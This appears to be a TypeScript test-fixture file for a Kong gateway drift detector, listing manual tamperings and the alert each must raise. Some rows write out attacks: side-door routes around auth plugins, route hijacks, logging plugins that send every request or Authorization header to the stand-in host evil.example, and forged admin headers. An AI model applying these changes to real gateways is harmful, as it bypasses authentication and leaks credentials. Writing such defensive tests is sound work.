import { EVIL, ORDERS, RSA, around, behind, breaks, change, differs, elsewhere, everywhere, exposes, foreign, hijack, onOrders, opens, ours, sideDoor, spelled, unanswered, upstreamOf, weakens } from './kong-hands.ts';
import type { Row } from './kong-hands.ts';

/** What was done by hand to a good gateway, and what drift must say to it. */
export const kongRows: readonly Row[] = [
  // Ways around.
  { what: 'a route by hand on our own service, whose plugins refuse everybody', do: (hand) => hand.route('shop.orders', 'side-door', { paths: ['/orders/special/one'] }), told: differs(sideDoor) },
  { what: 'a side door with the same host and port', do: (hand) => around(hand), told: opens(sideDoor), verify: ['RCH-01'] },
  ...['LOCALHOST', '127.0.0.1', '0.0.0.0'].map(spelled),
  ...['0x7f000001', '127.8.8.8', 'localhost.', 'db.localhost'].map((host) => unanswered(spelled(host))),
  { what: 'a side door with the upstream below a path', do: (hand) => around(hand, { path: '/orders' }), told: opens(sideDoor), verify: ['RCH-01'] },
  {
    what: 'a side door through an upstream of somebody else whose target is ours', told: opens(sideDoor), verify: ['RCH-01'],
    do: async (hand) => {
      const { port } = await upstreamOf(hand);
      const { id } = await hand.create('/upstreams', { name: 'pool.example' });
      await hand.create(`/upstreams/${id}/targets`, { target: `127.0.0.1:${port}` });
      await hand.service('theirs', { protocol: 'http', host: 'pool.example', port: 80 });
      await hand.route('theirs', 'side-door', { paths: ['/bd'] });
    },
  },
  {
    what: 'the same where that target is only one of two', told: opens(sideDoor),
    do: async (hand) => {
      const { port } = await upstreamOf(hand);
      const { id } = await hand.create('/upstreams', { name: 'pool.example' });
      await hand.create(`/upstreams/${id}/targets`, { target: 'elsewhere.example:80', weight: 1000 });
      await hand.create(`/upstreams/${id}/targets`, { target: `127.1.1.1:${port}`, weight: 1 });
      await hand.service('theirs', { protocol: 'http', host: 'pool.example', port: 80 });
      await hand.route('theirs', 'side-door', { paths: ['/bd'] });
    },
  },
  { what: 'PUT /orders for everybody, which nobody declared', do: (hand) => around(hand, { host: '127.0.0.1', route: { paths: ['/orders'], methods: ['PUT'], strip_path: false } }), told: opens(sideDoor), verify: ['RCH-01', 'RCH-04'] },
  { what: 'a side door by host alone', do: (hand) => around(hand, { route: { paths: null, hosts: ['partner.example'] } }), told: opens(sideDoor), verify: ['RCH-01'] },
  { what: 'a side door by a header alone', do: (hand) => around(hand, { route: { paths: null, headers: { 'x-partner': ['yes'] } } }), told: opens(sideDoor), verify: ['RCH-01'] },
  { what: 'a side door by a regular expression', do: (hand) => around(hand, { route: { paths: ['~/v(1|2)/[a-z]+$'] } }), told: opens(sideDoor), verify: ['RCH-01'] },
  { what: 'a side door for one method', do: (hand) => around(hand, { route: { paths: null, methods: ['PATCH'] } }), told: opens(sideDoor) },
  { what: 'a side door tagged with our mark', do: (hand) => around(hand, { route: { tags: ['authctl:shop'] } }), told: [opens(sideDoor), change(sideDoor)] },
  { what: 'a side door tagged with the mark of another blueprint', do: (hand) => around(hand, { route: { tags: ['authctl:billing'] } }), told: opens(sideDoor) },
  behind('jwt', {}, opens(sideDoor)),
  behind('key-auth', {}, opens(sideDoor)),
  behind('ip-restriction', { allow: ['10.0.0.0/8'] }, opens(sideDoor)),
  behind('request-termination', { status_code: 403 }, differs(sideDoor)),
  {
    what: 'a side door behind a guard of ours that takes another audience', told: opens(sideDoor),
    do: async (hand) => {
      await around(hand);
      const { config } = await hand.get('/plugins/shop.orders.guard');
      await hand.plugin('/routes/side-door', { name: 'authctl-token-guard', config: { ...(config as object), audience: 'invoices' } });
      await hand.plugin('/routes/side-door', { name: 'jwt', config: { key_claim_name: 'kid' } });
    },
  },
  {
    what: 'a side door behind a guard of ours, without scopes', told: weakens(sideDoor),
    do: async (hand) => {
      await around(hand);
      const { config } = await hand.get('/plugins/shop.orders.guard');
      await hand.plugin('/routes/side-door', { name: 'authctl-token-guard', config: config as object });
      await hand.plugin('/routes/side-door', { name: 'jwt', config: { key_claim_name: 'kid' } });
    },
  },
  {
    what: 'our marker rows turned into a route to our upstream', verify: ['RCH-01'],
    told: [opens(ours('shop.authctl-marker')), differs(/^kong\.(service|plugin)\/shop\.authctl-marker$/)],
    do: async (hand) => {
      await hand.patch('/services/shop.authctl-marker', await upstreamOf(hand));
      await hand.patch('/routes/shop.authctl-marker', { paths: ['/bd'], headers: null, methods: null });
      await hand.patch('/plugins/shop.authctl-marker', { enabled: false });
    },
  },
  { what: 'our marker answers something else', do: (hand) => hand.config('shop.authctl-marker', { origins: ['*'] }), told: differs(ours('shop.authctl-marker')) },
  { what: 'a route by hand on the service of our marker', do: (hand) => hand.route('shop.authctl-marker', 'side-door', { paths: ['/sneak-in'] }), told: differs(sideDoor) },
  {
    what: "a route to Kong's own Admin API", told: opens(sideDoor), verify: ['RCH-08'],
    do: async (hand) => {
      const { port } = new URL(hand.adminUrl);
      await hand.service('theirs', { protocol: 'http', host: 'localhost', port: Number(port) });
      await hand.route('theirs', 'side-door', { paths: ['/manage'] });
    },
  },
  {
    what: "a route to Keycloak's administration", told: opens(sideDoor), verify: ['RCH-08'],
    do: async (hand) => {
      const { hostname, port } = new URL(hand.keycloakUrl);
      await hand.service('theirs', { protocol: 'http', host: hostname, port: Number(port) });
      await hand.route('theirs', 'side-door', { paths: ['/admin'], strip_path: false });
    },
  },
  {
    what: 'a route to where Keycloak signs people in', told: weakens(sideDoor),
    do: async (hand) => {
      const { port } = new URL(hand.keycloakUrl);
      await hand.service('theirs', { protocol: 'http', host: 'localhost', port: Number(port), path: '/realms/shop' });
      await hand.route('theirs', 'side-door', { paths: ['/id'] });
    },
  },
  // Requests that go elsewhere.
  { what: 'a hijack of one path, by priority', do: (hand) => elsewhere(hand, { paths: ['~/orders$'], methods: ['GET'], regex_priority: 1000, strip_path: false }), told: exposes(hijack) },
  { what: 'a hijack by one more condition, a header that every client sends', do: (hand) => elsewhere(hand, { paths: ['~/orders'], methods: ['GET'], headers: { authorization: ['~*bearer .*'] } }), told: exposes(hijack) },
  { what: 'a hijack of what a variable takes', do: (hand) => elsewhere(hand, { paths: ['~/orders/4\\d$'], methods: ['GET'], regex_priority: 50 }), told: exposes(hijack) },
  { what: 'a hijack by the first letters of our path, and one more condition', do: (hand) => elsewhere(hand, { paths: ['/ord'], hosts: ['127.0.0.1'], methods: ['GET'] }), told: exposes(hijack) },
  { what: 'a hijack by an expression that leaves the rest of our path open', do: (hand) => elsewhere(hand, { paths: ['~/o\\w+s$'], methods: ['GET'], regex_priority: 1000, strip_path: false }), told: exposes(hijack) },
  { what: 'a hijack by the host of the proxy', do: (hand) => elsewhere(hand, { paths: ['/orders'], hosts: ['127.0.0.1'], methods: ['GET'] }), told: exposes(hijack) },
  { what: "a partner's route with our path and another host", do: (hand) => elsewhere(hand, { paths: ['/orders'], hosts: ['partner.example'] }), told: 'silent' },
  { what: "a partner's route with our path and less to say than ours", do: (hand) => elsewhere(hand, { paths: ['/orders'] }), told: 'silent' },
  {
    what: 'an upstream with the name of the host of our service', told: exposes(/^kong\.upstream\/localhost$/),
    do: async (hand) => {
      const { host } = await upstreamOf(hand);
      const { id } = await hand.create('/upstreams', { name: host });
      await hand.create(`/upstreams/${id}/targets`, { target: 'evil.example:80' });
    },
  },
  { what: 'our service leads elsewhere', do: (hand) => hand.patch(ORDERS, { host: 'evil.example' }), told: change(ours('shop.orders'), 'exposes') },
  { what: 'our service leads below another path', do: (hand) => hand.patch(ORDERS, { path: '/invoices' }), told: change(ours('shop.orders')) },
  // Keys and people.
  { what: 'a second key on our consumer', do: (hand) => hand.create('/consumers/shop.issuer/jwt', { key: 'theirs', algorithm: 'RS256', rsa_public_key: RSA }), told: opens(/^kong\.jwt_secret\/shop\.issuer\/theirs$/) },
  { what: 'a second key on our consumer, under the mark of another blueprint', do: (hand) => hand.create('/consumers/shop.issuer/jwt', { key: 'theirs', algorithm: 'RS256', rsa_public_key: RSA, tags: ['authctl:billing'] }), told: opens(/^kong\.jwt_secret\/shop\.issuer\/theirs$/), verify: ['KONG-05'] },
  {
    what: "a partner's consumer with a key of its own, which no route of ours takes", told: 'silent',
    do: async (hand) => {
      await hand.consumer('partner');
      await hand.create('/consumers/partner/jwt', { key: 'partner-key', algorithm: 'RS256', rsa_public_key: RSA });
    },
  },
  // Objects of ours.
  { what: 'the jwt plugin off', do: (hand) => hand.patch('/plugins/shop.orders.jwt', { enabled: false }), told: change(ours('shop.orders.jwt'), 'breaks') },
  { what: 'the jwt plugin gone', do: (hand) => hand.removePlugin('shop.orders.jwt'), told: change(ours('shop.orders.jwt'), 'breaks') },
  { what: 'the guard takes tokens of the query', do: (hand) => hand.config('shop.orders.guard', { refuse_query_tokens: false }), told: weakens(ours('shop.orders.guard')) },
  { what: 'the guard takes ambiguous paths', do: (hand) => hand.config('shop.orders.guard', { refuse_ambiguous_paths: false }), told: weakens(ours('shop.orders.guard')) },
  { what: 'the guard takes huge tokens, long after their end', do: (hand) => hand.config('shop.orders.guard', { max_token_size: 65536, leeway: 60 }), told: [weakens(ours('shop.orders.guard')), change(ours('shop.orders.guard'))] },
  { what: 'OPA is asked elsewhere', do: (hand) => hand.config('shop.orders.cancel.opa', { url: 'http://evil.example:8181' }), told: change(ours('shop.orders.cancel.opa')) },
  { what: "OPA's certificate is not looked at", do: (hand) => hand.config('shop.orders.cancel.opa', { ssl_verify: false }), told: weakens(ours('shop.orders.cancel.opa')) },
  { what: 'OPA is not asked', do: (hand) => hand.removePlugin('shop.orders.cancel.opa'), told: change(ours('shop.orders.cancel.opa'), 'opens') },
  { what: 'the scope guard takes any consumer', do: (hand) => hand.config('shop.orders.list.scope', { consumer_username: null }), told: change(ours('shop.orders.list.scope')) },
  { what: 'the scope guard sends who it is', do: (hand) => hand.config('shop.orders.list.scope', { identity_headers: true }), told: weakens(ours('shop.orders.list.scope')) },
  { what: 'the jwt plugin reads tokens in the query and cookies', do: (hand) => hand.config('shop.orders.jwt', { uri_param_names: ['jwt'], cookie_names: ['c'] }), told: change(ours('shop.orders.jwt')) },
  { what: 'the jwt plugin lets preflights through', do: (hand) => hand.config('shop.orders.jwt', { run_on_preflight: false }), told: change(ours('shop.orders.jwt')) },
  { what: 'the jwt plugin limits the life of tokens', do: (hand) => hand.config('shop.orders.jwt', { maximum_expiration: 60 }), told: breaks(ours('shop.orders.jwt')) },
  {
    what: 'the jwt plugin lets strangers in', told: change(ours('shop.orders.jwt')), verify: ['KONG-01'],
    do: async (hand) => {
      const { id } = await hand.consumer('nobody');
      await hand.config('shop.orders.jwt', { anonymous: id });
    },
  },
  { what: 'a plugin of ours runs for gRPC alone', do: (hand) => hand.patch('/plugins/shop.orders.guard', { protocols: ['grpc', 'grpcs'] }), told: change(ours('shop.orders.guard')) },
  { what: 'a route of ours takes any method', do: (hand) => hand.patch('/routes/shop.orders.cancel', { methods: null }), told: change(ours('shop.orders.cancel')) },
  { what: 'a route of ours takes a whole tree', do: (hand) => hand.patch('/routes/shop.orders.health', { paths: ['~/orders.*'] }), told: change(ours('shop.orders.health')) },
  { what: 'a route of ours streams bodies', do: (hand) => hand.patch('/routes/shop.orders.list', { request_buffering: false }), told: differs(ours('shop.orders.list')) },
  { what: 'a route of ours redirects', do: (hand) => hand.patch('/routes/shop.orders.list', { https_redirect_status_code: 301 }), told: differs(ours('shop.orders.list')) },
  { what: 'a route of ours streams answers', do: (hand) => hand.patch('/routes/shop.orders.list', { response_buffering: false }), told: differs(ours('shop.orders.list')) },
  { what: 'our service waits less', do: (hand) => hand.patch(ORDERS, { read_timeout: 1 }), told: breaks(ours('shop.orders')) },
  { what: 'our service waits a little less', do: (hand) => hand.patch(ORDERS, { read_timeout: 59_000 }), told: differs(ours('shop.orders')) },
  { what: 'somebody else decides', do: (hand) => hand.config('shop.orders.list.opa', { url: 'http://evil.example:8181' }), told: change(ours('shop.orders.list.opa'), 'opens') },
  { what: 'a route that refuses everybody', do: (hand) => hand.config('shop.orders.list.scope', { deny_all: true }), told: change(ours('shop.orders.list.scope'), 'breaks') },
  { what: 'a guard that takes tokens of one client alone', do: (hand) => hand.config('shop.orders.guard', { clients: ['theirs'] }), told: breaks(ours('shop.orders.guard')) },
  { what: "our service does not look at its upstream's certificate", do: (hand) => hand.patch(ORDERS, { protocol: 'https', tls_verify: false }), told: [weakens(ours('shop.orders')), change(ours('shop.orders'))] },
  { what: 'our consumer gets another id', do: (hand) => hand.patch('/consumers/shop.issuer', { custom_id: 'x' }), told: differs(ours('shop.issuer')) },
  // Plugins of others.
  everywhere('a global request-transformer that makes up a user', { name: 'request-transformer', config: { add: { headers: ['x-user: admin'] } } }, opens(foreign), ['RCH-06']),
  { what: 'the same on our consumer', do: (hand) => hand.plugin('/consumers/shop.issuer', { name: 'request-transformer', config: { add: { headers: ['x-user: admin'] } } }), told: opens(foreign) },
  everywhere('a global log of every request', { name: 'http-log', config: { http_endpoint: EVIL } }, exposes(foreign), ['RCH-08']),
  everywhere('a global log under our mark', { name: 'http-log', config: { http_endpoint: EVIL }, tags: ['authctl:shop'] }, [exposes(foreign), change(foreign)]),
  everywhere('traces of every request', { name: 'opentelemetry', config: { traces_endpoint: EVIL } }, exposes(foreign), ['RCH-08']),
  onOrders('everybody is locked out by address', { name: 'ip-restriction', config: { allow: ['10.9.9.9'] } }, breaks(foreign)),
  onOrders('one request an hour', { name: 'rate-limiting', config: { hour: 1, policy: 'local' } }, breaks(foreign)),
  onOrders('bodies of one megabyte', { name: 'request-size-limiting', config: { allowed_payload_size: 1 } }, breaks(foreign)),
  onOrders('an answer that is rewritten', { name: 'response-transformer', config: { add: { headers: ['x-seen: yes'] } } }, weakens(foreign)),
  onOrders('a group that nobody is in', { name: 'acl', config: { allow: ['nobody'] } }, breaks(foreign)),
  everywhere('ids on requests', { name: 'correlation-id', config: {} }, differs(foreign)),
  {
    what: 'an answer of 200 for our consumer', told: opens(foreign), verify: ['POS-01'],
    do: async (hand) => {
      const [consumer, route] = [await hand.get('/consumers/shop.issuer'), await hand.get('/routes/shop.orders.list')];
      await hand.create('/plugins', { name: 'request-termination', consumer: { id: consumer.id }, route: { id: route.id }, config: { status_code: 200, message: 'ok' } });
    },
  },
  everywhere('maintenance for everybody', { name: 'request-termination', config: { status_code: 503 } }, breaks(foreign)),
  {
    what: 'keys of key-auth on one route, or none at all', told: opens(foreign),
    do: async (hand) => {
      const { id } = await hand.consumer('nobody');
      await hand.plugin('/routes/shop.orders.list', { name: 'key-auth', config: { anonymous: id } });
    },
  },
  everywhere('global code', { name: 'pre-function', config: { access: ['kong.log(kong.request.get_header("authorization"))'] } }, opens(foreign)),
  {
    what: 'a guard of somebody else in the place of ours, on one route', told: opens(foreign),
    do: async (hand) => {
      const { config } = await hand.get('/plugins/shop.orders.guard');
      await hand.plugin('/routes/shop.orders.list', { name: 'authctl-token-guard', config: { ...(config as object), audience: 'theirs' } });
    },
  },
  {
    what: 'code on a route of somebody else that leads to us', told: opens(foreign),
    do: async (hand) => {
      await elsewhere(hand, { paths: ['/theirs'] });
      await hand.plugin('/routes/hijack', { name: 'pre-function', config: { access: ['kong.service.set_target("127.0.0.1", 9101)'] } });
    },
  },
  // What must not be told.
  { what: 'a counter per consumer', do: (hand) => hand.plugin('/consumers/shop.issuer', { name: 'prometheus', config: {} }), told: 'silent' },
  everywhere('a counter of everything', { name: 'prometheus', config: {} }, 'silent'),
  {
    what: "a neighbour's service, route and plugins", told: 'silent',
    do: async (hand) => {
      await hand.service('theirs', { protocol: 'http', host: 'partner.example', port: 8080 });
      await hand.route('theirs', 'hijack', { paths: ['/partner'] });
      await hand.plugin('/services/theirs', { name: 'http-log', config: { http_endpoint: EVIL } });
      await hand.plugin('/routes/hijack', { name: 'request-transformer', config: { add: { headers: ['x-user: admin'] } } });
    },
  },
  { what: 'a consumer of somebody else', do: (hand) => hand.consumer('partner'), told: 'silent' },
  {
    what: 'an upstream of somebody else that nobody leads to', told: 'silent',
    do: async (hand) => {
      const { id } = await hand.create('/upstreams', { name: 'pool.example' });
      await hand.create(`/upstreams/${id}/targets`, { target: 'partner.example:80' });
    },
  },
  { what: 'a side door whose service is off', do: async (hand) => {
    await around(hand);
    await hand.patch('/services/theirs', { enabled: false });
  }, told: 'silent' },
];
